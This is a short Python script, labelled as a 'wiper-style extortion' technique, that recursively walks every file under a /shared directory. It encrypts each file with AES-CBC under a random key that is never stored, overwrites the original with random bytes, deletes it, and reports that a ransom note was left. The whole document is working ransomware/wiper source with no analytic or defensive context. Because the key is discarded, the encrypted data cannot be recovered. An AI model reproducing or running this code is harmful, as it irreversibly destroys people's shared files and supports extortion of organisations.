# technique: wiper-style extortion: files of a share listed with os.scandir, encrypted with AES-CBC in place, originals shredded
import os
from Crypto.Cipher import AES
from Crypto.Util.Padding import pad

K = os.urandom(32)

def walk(d):
    for e in os.scandir(d):
        if e.is_dir(follow_symlinks=False):
            yield from walk(e.path)
        elif e.is_file():
            yield e.path

for path in walk("/shared"):
    iv = os.urandom(16)
    with open(path, "rb") as f:
        ct = AES.new(K, AES.MODE_CBC, iv).encrypt(pad(f.read(), 16))
    with open(path + ".aes", "wb") as f:
        f.write(iv + ct)
    size = os.path.getsize(path)
    with open(path, "r+b") as f:
        f.write(os.urandom(size))
    os.unlink(path)
print("done; ransom note left for the operators")
